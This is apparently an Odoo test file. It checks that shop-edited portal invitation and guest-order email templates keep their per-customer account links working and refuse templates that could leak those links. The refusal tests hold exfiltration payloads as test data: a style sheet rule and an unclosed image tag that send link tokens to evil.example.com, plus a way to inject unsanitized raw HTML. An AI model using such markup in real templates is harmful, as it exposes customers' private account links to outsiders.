"""Shops edit the email templates: each customer still gets working links, and nobody else does."""

import re

from odoo.tests import new_test_user, tagged
from odoo.tools import mute_logger

from .common import PortalInvitationCommon
from .join_common import GuestOrderCommon

TEMPLATE = "sale_auto_portal_user.mail_template_portal_invitation"
JOIN_TEMPLATE = "sale_auto_portal_user.mail_template_portal_join"
# Raw HTML that Odoo doesn't sanitize, inserted by a template.
RAW = """<t t-out="object.env['website'].new({'custom_code_head': &quot;%s&quot;}).custom_code_head"/>"""


@tagged("post_install", "-at_install", "once")
class TestEditedTemplates(PortalInvitationCommon, GuestOrderCommon):
    def edit(self, name, replacements):
        template = self.env.ref(name)
        body = str(template.body_html)
        for old, new in replacements.items():
            self.assertIn(old, body)
            body = body.replace(old, new)
        template.body_html = body

    def targets_of(self, body):
        """Return the targets of the links to pages about the account, without the domain."""
        return re.findall(r'<a [^>]*href="https?://[^/"]+(/my/[^"]+)"', body)

    def send_joins(self):
        with self.mock_mail_gateway():
            joins = self.env["sale.portal.join"]._search_due(100)
            joins._queue()
            joins._send_queued()
        return [mail["body"] for mail in self._mails]

    def test_links_with_a_query_or_a_fragment_work(self):
        self.edit(
            TEMPLATE,
            {
                't-att-href="object._get_portal_invitation_url()"': (
                    't-attf-href="{{ object._get_portal_invitation_url() }}?utm_source=mail&amp;utm_medium=a"'
                ),
                't-att-href="object._get_portal_decline_url()"': (
                    't-attf-href="{{ object._get_portal_decline_url() }}#decline"'
                ),
            },
        )
        _order, invitation = self.invite(email="otto@example.com")
        choose, decline = self.targets_of(self.send()["otto@example.com"])
        path = rf"/my/invitation/{invitation.id}/\w{{64}}"
        self.assertRegex(choose, rf"^{path}\?utm_source=mail&amp;utm_medium=a$")
        self.assertRegex(decline, rf"^{path}/decline#decline$")

    def test_links_that_the_template_only_prints_are_appended(self):
        for replacements in (
            {
                "<a t-att-href": "<b t-att-href",
                "Choose a password</a>": "Choose a password</b>",
                "decline it</a>": "</b>",
            },
            {
                't-att-href="object._get_portal_invitation_url()"': (
                    't-attf-href="/go?to={{ object._get_portal_invitation_url() }}"'
                ),
                't-att-href="object._get_portal_decline_url()"': 't-att-title="object._get_portal_decline_url()"',
            },
        ):
            body = self.env.ref(TEMPLATE).body_html
            self.edit(TEMPLATE, replacements)
            email = f"nora{len(replacements)}@example.com"
            _order, invitation = self.invite(email=email)
            # Markup, which mail_tracking (OCA) returns, would escape the apostrophe below.
            mail = str(self.send()[email])
            self.env.ref(TEMPLATE).body_html = body
            with self.subTest(replacements):
                choose, decline = self.targets_of(mail)[-2:]
                self.assertRegex(choose, rf"^/my/invitation/{invitation.id}/\w{{64}}$")
                self.assertRegex(decline, rf"^/my/invitation/{invitation.id}/\w{{64}}/decline$")
                self.assertIn(">Choose your password</a>", mail)
                self.assertIn(">I don't want an account</a>", mail.replace("&#39;", "'"))

    def test_the_link_of_a_guest_order_works_with_a_query_and_is_appended_if_it_is_missing(self):
        url = 't-att-href="object._get_portal_join_url()"'
        for new, rest in (
            ('t-attf-href="{{ object._get_portal_join_url() }}?utm_source=mail"', "?utm_source=mail"),
            ("", ""),
        ):
            body = self.env.ref(JOIN_TEMPLATE).body_html
            self.edit(JOIN_TEMPLATE, {url: new})
            order = self.guest_order()
            [mail] = self.send_joins()
            self.env.ref(JOIN_TEMPLATE).body_html = body
            self.joins_of(order).unlink()
            with self.subTest(new):
                [target] = self.targets_of(mail)
                path, found, query = target.partition("?")
                self.assertEqual(found + query, rest)
                self.assertRegex(path, r"^/my/guest-orders/link/[\w-]{60,}$")

    def test_a_link_in_a_comment_counts_as_missing(self):
        link = '<a t-att-href="object._get_portal_join_url()">x</a>'
        template = self.env.ref(JOIN_TEMPLATE)
        template.body_html = RAW % "<!--" + link + RAW % "-->"
        self.guest_order()
        [mail] = self.send_joins()
        displayed = re.sub(r"<!--.*?-->", "", mail, flags=re.DOTALL)
        [target] = self.targets_of(displayed)
        self.assertRegex(target, r"^/my/guest-orders/link/[\w-]{60,}$")

    def test_a_template_can_not_disclose_the_link_by_a_style_sheet(self):
        style = "<style>a[href*='=a'] {background: url(https://evil.example.com/a)}</style>"
        for markup, found in ((style, "[href*='=a']"), (RAW % "<link rel='stylesheet' href='/x'/>", "<link")):
            self.assert_refused(markup, "", f"could disclose the link: {found}")

    def test_a_template_can_not_make_a_link_a_part_of_an_image(self):
        image = RAW % "<img src='https://evil.example.com/?"
        for end in (RAW % "'/>", ""):
            self.assert_refused(image, end, "not closed properly")

    @mute_logger("odoo.addons.sale_auto_portal_user.models.portal_mail_send")
    def assert_refused(self, before, after, reason):
        """Check that no mail is sent if its template has some code before or around a link, and that staff are told."""
        editor = new_test_user(
            self.env,
            login=f"editor{self.env['res.users'].search_count([])}",
            groups="sales_team.group_sale_manager,mail.group_mail_template_editor",
        )
        for name, url in ((TEMPLATE, "_get_portal_invitation_url"), (JOIN_TEMPLATE, "_get_portal_join_url")):
            template = self.env.ref(name)
            body = template.body_html
            link = f'<a t-att-href="object.{url}()">x</a>' if after else ""
            template.with_user(editor).body_html = before + link + after + str(body)
            order, invitation = self.invite(email="otto@example.com")
            join = self.joins_of(self.guest_order())
            mails = list(self.send().values()) if name == TEMPLATE else self.send_joins()
            template.body_html = body
            record = invitation if name == TEMPLATE else join
            with self.subTest(template=name, before=before, after=after):
                self.assertFalse(mails)
                self.assertEqual(record.state, "failed")
                self.assertIn(reason, record.failure_reason)
                self.assertIn(reason, self.notes_of(record.order_id)[0])
            (join + self.joins_of(order)).unlink()
            invitation.user_id.unlink()
